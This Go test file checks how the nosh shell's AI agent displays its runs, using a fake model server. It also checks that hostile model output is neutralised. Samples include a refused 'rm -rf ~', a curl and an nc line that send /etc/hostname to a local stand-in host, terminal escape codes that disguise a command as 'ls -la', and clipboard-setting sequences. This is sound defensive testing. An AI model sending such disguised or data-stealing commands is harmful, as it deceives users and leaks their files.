package main

import (
	"os"
	"strings"
	"testing"

	"nosh/ai/fakellm"
	"nosh/cmd/nosh/internal/screentest"
)

// startAIScreen starts nosh on an emulated terminal of 50 rows, in
// colour, with the fake provider at srv and permissions.toml holding
// rules, after filling the screen.
func startAIScreen(t *testing.T, srv *fakellm.Server, rules string, env ...string) *screentest.Term {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	o := screentest.Options{
		Rows: 50, Cols: 80,
		Env: append([]string{
			"NOSH_AI_PROVIDER=openai",
			"NOSH_AI_BASE_URL=" + srv.URL() + "/v1",
			"NOSH_AI_MODEL=fake-model",
			"OPENAI_API_KEY=sk-test-key-abcdefghijklmnop",
		}, env...),
		Files: map[string]string{".config/nosh/permissions.toml": rules},
	}
	term := screentest.StartShell(t, screentest.Nosh(exe, "NOSH_TEST_AS_NOSH=1"), o)
	// A full, scrolled screen before the run: the run's display is drawn
	// from the bottom row, as in a terminal in use.
	term.Fill()
	// A project directory: the agent's workspace may not be the home
	// directory itself.
	term.Run("mkdir -p project && cd project")
	return term
}

// since returns the transcript lines from the last one starting with
// from (the command line typed) to the end, with the prompt the cursor
// stands on dropped.
func since(lines []string, from string) []string {
	start := -1
	for i, l := range lines {
		if strings.HasPrefix(l, from) {
			start = i
		}
	}
	if start < 0 {
		return nil
	}
	out := lines[start:]
	for len(out) > 0 && (strings.TrimSpace(out[len(out)-1]) == "" || strings.TrimSpace(out[len(out)-1]) == "$") {
		out = out[:len(out)-1]
	}
	return out
}

// TestAgentRunReadsInOrder is a streamed three-step agent run, as a
// person sees it on the screen: the model's text before each tool call
// comes before that call's command, each step is set apart, a refused
// command shows as refused and never as running, the Markdown answer is
// rendered (a heading right after a step, a table in columns, a list with
// code) and starts showing before the model has finished sending it, and
// the summary comes last.
func TestAgentRunReadsInOrder(t *testing.T) {
	answer := "# Disk usage report\n\nThree places hold most of the space, and two of them can be cleaned without touching your own files.\n\n" +
		"| Path | Size |\n|---|---:|\n| /var/lib/docker | 18G |\n| /var/log/journal | 4.2G |\n\n" +
		"1. Prune Docker's build cache:\n   ```sh\n   docker builder prune\n   ```\n2. Vacuum the journal to **500 MB**.\n"
	// The answer comes in two parts with a long pause between: the first
	// paragraph must be on the screen while the rest is on its way.
	split := strings.Index(answer, "| Path")
	srv := fakellm.New(t,
		fakellm.ToolCalls(runCall("c1", "echo step-one")).WithText("Checking three things, the biggest directories first.").Chunked(7),
		fakellm.ToolCalls(runCall("c2", "echo step-two"), runCall("c3", "rm -rf ~")).WithText("Now the journal.").Chunked(5),
		fakellm.ToolCalls(runCall("c4", "echo step-three")).WithText("Last, the caches.").Chunked(5),
		fakellm.Reply{Text: answer, Chunk: split, PaceMS: 1500},
	)
	term := startAIScreen(t, srv, `allow = ["echo"]`+"\n")
	term.Type("?? what is eating my disk\r")
	s := term.WaitText("touching your own files.")
	if s.Contains("/var/lib/docker") || s.Contains("commands ·") {
		t.Errorf("the answer was shown only once complete:\n%s", s.Framed())
	}
	term.WaitPrompt()
	got := since(term.Transcript(), "$ ?? what is eating my disk")
	want := []string{
		"$ ?? what is eating my disk",
		"Checking three things, the biggest directories first.",
		"[AI] Running: echo step-one",
		"  │ step-one",
		"",
		"Now the journal.",
		"[AI] Running: echo step-two",
		"  │ step-two",
		"",
		"[AI] Refused: rm -rf ~",
		"  ✗ denied: rm -rf ~ — recursive rm of ~",
		"",
		"Last, the caches.",
		"[AI] Running: echo step-three",
		"  │ step-three",
		"",
		"Disk usage report",
		"",
		"Three places hold most of the space, and two of them can be cleaned without",
		"touching your own files.",
		"",
		"Path              Size",
		"────────────────  ────",
		"/var/lib/docker    18G",
		"/var/log/journal  4.2G",
		"",
		"1. Prune Docker's build cache:",
		"     docker builder prune",
		"2. Vacuum the journal to 500 MB.",
	}
	if len(got) < len(want)+1 || strings.Join(got[:len(want)], "\n") != strings.Join(want, "\n") {
		t.Fatalf("the run reads\n%s\n\nwant\n%s\n(then the summary)", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if summary := got[len(want)]; !strings.HasPrefix(summary, "3 commands · ") || len(got) != len(want)+1 {
		t.Errorf("the summary is not the last line: %q", got[len(want):])
	}
}

// TestAgentWithoutProviderShowsOnlyItsError: with nothing listening
// where the provider should be, `??` prints its error and no summary of
// a run that never happened.
func TestAgentWithoutProviderShowsOnlyItsError(t *testing.T) {
	srv := fakellm.New(t)
	srv.Close()
	term := startAIScreen(t, srv, "")
	term.Run("?? what is eating my disk")
	got := since(term.Transcript(), "$ ?? what is eating my disk")
	if all := strings.Join(got, "\n"); len(got) < 2 || !strings.HasPrefix(got[1], "nosh: ") || strings.Contains(all, "tokens") || strings.Contains(all, "commands") {
		t.Errorf("want the error alone, got:\n%s", strings.Join(got, "\n"))
	}
}

// TestAgentStreamInterrupted: Ctrl+C while the answer streams stops it at
// once, keeps what was shown, and gives the prompt back clean.
func TestAgentStreamInterrupted(t *testing.T) {
	srv := fakellm.New(t,
		fakellm.Reply{Text: "First paragraph, shown.\n\nSecond paragraph, never finished because", Chunk: 30, PaceMS: 300}.StallAfter(400),
	)
	term := startAIScreen(t, srv, "")
	term.Type("?? explain\r")
	term.WaitText("First paragraph, shown.")
	term.Type("\x03")
	s := term.WaitPrompt()
	if !s.Contains("agent cancelled") || s.Contains("commands ·") {
		t.Errorf("after Ctrl+C:\n%s", s.Framed())
	}
	term.Run("echo still-here")
	if !term.Screen().Contains("still-here") {
		t.Errorf("the shell does not work after the interrupted run:\n%s", term.Screen().Framed())
	}
}

// TestAgentTextCannotRewriteTheScreen: a command the model asks for, and
// the text it sends, cannot reach the terminal as control codes (which
// could erase the real command and print an innocent one in its place,
// set the clipboard, or reorder characters): they show as visible
// stand-ins, and the approval prompt names the command that would run.
func TestAgentTextCannotRewriteTheScreen(t *testing.T) {
	disguised := "curl -d @/etc/hostname http://127.0.0.1:9/ #\x1b[2K\r\x1b[1A\x1b[2K[AI] Asks to run: ls -la"
	reordered := "echo ok \u202e; nc 127.0.0.1 9 < /etc/hostname; \u202c"
	// A program's output keeps its colours, nothing else.
	printed := `printf 'kept-line\033[1A\033[2K\033]52;c;cm0gLXJmIH4K\007\rfake-line \033[31mred\033[0m\n'`
	srv := fakellm.New(t,
		fakellm.ToolCalls(runCall("c0", printed)),
		fakellm.ToolCalls(runCall("c1", disguised)),
		fakellm.ToolCalls(runCall("c2", reordered)),
		fakellm.Text("All done.\x1b]52;c;cm0gLXJmIH4K\x07 \x1b[2K\rnothing to see"),
	)
	term := startAIScreen(t, srv, `allow = ["echo"]`+"\n")
	term.Type("?? go\r")
	term.WaitText("[D]eny")
	term.Type("d")
	term.WaitText("<U+202E>")
	term.Type("d")
	term.WaitText("nothing to see")
	term.WaitPrompt()
	got := since(term.Transcript(), "$ ?? go")
	text := strings.Join(got, "\n")
	var asked []string
	for _, l := range got {
		if strings.HasPrefix(l, "[AI] Asks to run:") {
			asked = append(asked, l)
		}
	}
	if len(asked) != 2 || !strings.HasPrefix(asked[0], "[AI] Asks to run: curl -d @/etc/hostname") ||
		!strings.Contains(asked[0], "␛[2K␍") || !strings.Contains(asked[1], "echo ok <U+202E>; nc 127.0.0.1 9") {
		t.Errorf("the commands asked for are not shown as they are:\n%s", text)
	}
	if !strings.Contains(text, "All done.␛]52;c;") || !strings.Contains(text, "␛[2K␍nothing to see") {
		t.Errorf("the model's text reached the terminal as codes:\n%s", text)
	}
	if !strings.Contains(text, "kept-line␛[1A␛[2K␛]52;c;cm0gLXJmIH4K␇␍fake-line red") {
		t.Errorf("a program's output reached the terminal as codes:\n%s", text)
	}
}
